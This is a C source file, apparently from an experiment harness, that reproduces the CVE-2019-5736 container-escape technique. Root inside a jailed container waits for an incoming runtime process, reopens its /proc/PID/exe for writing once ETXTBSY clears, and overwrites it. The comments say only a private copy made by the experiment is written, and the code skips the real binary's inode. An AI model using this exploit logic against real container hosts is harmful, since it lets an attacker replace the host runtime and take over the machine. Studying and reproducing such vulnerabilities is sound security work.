// SPDX-License-Identifier: MIT
/*
 * attacker: what a container's root can do to the runtime that comes in (CVE-2019-5736).
 *
 * It is shut in: its own PID and mount namespaces, and a root directory with nothing in it but a
 * /proc. By a path it cannot reach the runtime's file. But when a process of the runtime comes in,
 * as in `docker exec`, there is a /proc/PID/exe for it. That looks like a symlink and is none: it
 * is opened without walking a path, whatever the root directory is (proc_pid_exe(5)). Opened for
 * reading now, it can be opened again for writing through /proc/self/fd, once the program does not
 * run any more and the kernel's ETXTBSY no longer guards it.
 *
 * It does this to the file it finds, save that the real program is never touched: only the private
 * copy that the experiment made is ever written to.
 */
#include "overwrite.h"

#include "cleanup.h"

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <string.h>
#include <sys/mount.h>
#include <unistd.h>

enum { PATIENCE = 20000, PAUSE_USEC = 500 };

static int shut_in(const struct attacker *a, struct err *err)
{
    if (chdir(a->jail) < 0 || mount("proc", "proc", "proc", 0, NULL) < 0)
        return err_sys(err, "cannot mount a /proc in %s", a->jail);
    return chroot(".") < 0 ? err_sys(err, "cannot chroot to %s", a->jail) : 0;
}

/* Opens the program of the first process besides us. -1: there is none yet, or errno says why. */
static int open_visitor(void)
{
    cleanup_closedir DIR *proc = opendir("/proc");
    struct dirent *entry;
    char path[64];

    errno = ENOENT;
    while (proc && (entry = readdir(proc))) {
        if (!isdigit((unsigned char)entry->d_name[0]) || strcmp(entry->d_name, "1") == 0)
            continue;
        snprintf(path, sizeof(path), "/proc/%.16s/exe", entry->d_name);
        return open(path, O_RDONLY | O_CLOEXEC);
    }
    return -1;
}

/* What is left of the old file behind our program does no harm: it ends before. */
static int overwrite(int fd)
{
    static const char program[] = LOOT_PROGRAM;
    ssize_t length = sizeof(program) - 1;

    return write(fd, program, (size_t)length) == length ? 0 : errno;
}

static void attack(struct loot *loot)
{
    struct stat found;
    char path[64];
    int visitor = -1, again = -1;

    loot->path_code = open(loot->path, O_WRONLY | O_CLOEXEC) < 0 ? errno : 0;
    for (int i = 0; visitor < 0 && i < PATIENCE; i++) {
        visitor = open_visitor();
        loot->exe_code = visitor < 0 ? errno : 0;
        usleep(PAUSE_USEC);
    }
    if (visitor < 0 || fstat(visitor, &found) < 0 ||
        (found.st_ino == loot->never.st_ino && found.st_dev == loot->never.st_dev))
        return;
    snprintf(path, sizeof(path), "/proc/self/fd/%d", visitor);
    for (int i = 0; again < 0 && i < PATIENCE; i++) {
        again = open(path, O_WRONLY | O_CLOEXEC);
        loot->write_code = again < 0 ? errno : 0;
        if (again < 0 && loot->write_code != ETXTBSY)
            return;
        loot->busy += again < 0;
        usleep(again < 0 ? PAUSE_USEC : 0);
    }
    if (again >= 0)
        loot->write_code = overwrite(again);
}

int attacker_main(void *arg)
{
    struct attacker *a = arg;
    struct err err;

    sync_child(&a->sync);
    if (shut_in(a, &err) < 0 || sync_signal(&a->sync, &err) < 0) {
        sync_fail(&a->sync, &err);
        return 1;
    }
    attack(a->loot);
    a->loot->over = true;
    return 0;
}
